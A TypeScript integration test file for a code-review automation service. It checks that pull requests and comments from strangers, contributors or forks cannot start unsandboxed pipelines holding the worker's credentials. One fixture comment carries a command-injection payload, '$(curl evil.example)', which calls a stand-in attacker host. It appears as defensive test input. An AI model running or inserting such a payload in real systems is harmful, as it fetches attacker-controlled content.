import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { lineage, waitFor, waitForTrigger } from "../../integration/worker/helpers.ts";
import { type CommandBed, MEMBER_TOKEN, STRANGER_TOKEN, startCommandBed } from "../worker/command-bed.ts";

/**
 * Who may start which pipeline, against the author of a pull request: a stranger (no association,
 * a first-timer, a contributor) or a fork's author must not start a pipeline that runs unsandboxed
 * with the worker's credentials, through the real ingress and worker and signed deliveries.
 *
 * The sandboxed pipeline is asserted on its created workload only: its run needs a container
 * engine this test does not start, so it is never awaited (and may end failed on the engine).
 */
const PIPELINES = {
  // unsandboxed, no `authors`: the team's own
  "host-review": "trigger:\n  codehost: [pull_request.opened, pull_request.edited]\n",
  // sandboxed: anyone's pull request may start it
  "boxed-review": "trigger:\n  codehost: [pull_request.opened]\nsandbox: {}\n",
  // unsandboxed, opened to contributors explicitly
  triage: "trigger:\n  codehost: [pull_request.labeled]\nauthors: [owner, member, contributor]\n",
  // unsandboxed, on every pull request comment
  "comment-bot": "trigger:\n  codehost: [issue_comment.created]\n",
  // unsandboxed, on "@svc ask ..."
  ask: "trigger:\n  codehost:\n    - command: ask\n",
};

describe("hostile: a stranger's or a fork's pull request against unsandboxed pipelines", () => {
  let bed: CommandBed;

  beforeAll(async () => {
    bed = await startCommandBed({ pipelines: PIPELINES });
  });

  afterAll(async () => {
    await bed?.close();
  });

  const gatedLog = (trigger: string) =>
    bed.worker.waitForLog(
      (l) => l.event === "dispatch.gated" && l.trigger === trigger,
      `dispatch.gated of ${trigger}`,
    );

  it("an outsider's pull request starts no unsandboxed pipeline, and its trigger says why", async () => {
    for (const association of ["NONE", "FIRST_TIME_CONTRIBUTOR", "CONTRIBUTOR"] as const) {
      const trigger = await bed.pullRequest(21, "edited", { association });
      const done = await waitForTrigger(bed.pool, trigger);
      expect(done.status).toBe("completed");
      expect(done.diagnostic.code).toBe("author_not_allowed");
      expect(done.diagnostic.message).toContain("host-review");
      const { workloads, invocations } = await lineage(bed.pool, trigger);
      expect([workloads, invocations]).toEqual([[], []]);
      expect(await gatedLog(trigger)).toMatchObject({
        pipelines: ["host-review"],
        gate: "author_not_allowed",
      });
    }
  });

  it("a member's pull request starts the unsandboxed pipeline", async () => {
    const trigger = await bed.pullRequest(22, "edited", { association: "MEMBER" });
    expect((await waitForTrigger(bed.pool, trigger)).status).toBe("completed");
    const { invocations, workloads } = await lineage(bed.pool, trigger);
    expect(workloads.map((w) => w.pipeline)).toEqual(["host-review"]);
    expect(invocations[0].status).toBe("completed");
  });

  it("a fork's pull request starts only the sandboxed pipeline, even when its author is a member", async () => {
    for (const association of ["MEMBER", "NONE"] as const) {
      const trigger = await bed.pullRequest(23, "opened", { association, fork: true });
      const workloads = await waitFor(async () => {
        const { rows } = await bed.pool.query("SELECT pipeline FROM svc.workloads WHERE trigger_id = $1", [
          trigger,
        ]);
        return rows.length ? rows : undefined;
      }, `the workloads of ${trigger}`);
      expect(workloads.map((w) => w.pipeline)).toEqual(["boxed-review"]);
      expect(await gatedLog(trigger)).toMatchObject({
        pipelines: ["host-review"],
        gate: "author_not_allowed",
      });
    }
  });

  it("`authors` decides instead: a contributor starts the pipeline that lists contributor, a first-timer does not", async () => {
    const allowed = await bed.pullRequest(24, "labeled", { association: "CONTRIBUTOR" });
    expect((await waitForTrigger(bed.pool, allowed)).status).toBe("completed");
    expect((await lineage(bed.pool, allowed)).workloads.map((w) => w.pipeline)).toEqual(["triage"]);

    const refused = await bed.pullRequest(24, "labeled", { association: "FIRST_TIME_CONTRIBUTOR" });
    const done = await waitForTrigger(bed.pool, refused);
    expect([done.status, done.diagnostic.code]).toEqual(["completed", "author_not_allowed"]);
    expect((await lineage(bed.pool, refused)).workloads).toEqual([]);
    // a fork never counts as its author's association, even a listed one
    const fork = await bed.pullRequest(24, "labeled", { association: "CONTRIBUTOR", fork: true });
    expect((await waitForTrigger(bed.pool, fork)).diagnostic.code).toBe("author_not_allowed");
  });

  it("a stranger's comment starts no unsandboxed pipeline listening to comments", async () => {
    const { trigger } = await bed.comment(25, "please run this: $(curl evil.example)", {
      token: STRANGER_TOKEN,
      association: "NONE",
    });
    const done = await waitForTrigger(bed.pool, trigger);
    expect([done.status, done.diagnostic.code]).toEqual(["completed", "author_not_allowed"]);
    expect((await lineage(bed.pool, trigger)).workloads).toEqual([]);
  });

  it("a member's command on a stranger's pull request runs only the command's pipeline, not those on every comment", async () => {
    const { trigger } = await bed.comment(
      26,
      "@svc ask what changed",
      { token: MEMBER_TOKEN, association: "MEMBER" },
      "NONE",
    );
    expect((await waitForTrigger(bed.pool, trigger)).status).toBe("completed");
    expect((await lineage(bed.pool, trigger)).workloads.map((w) => w.pipeline)).toEqual(["ask"]);
  });
});
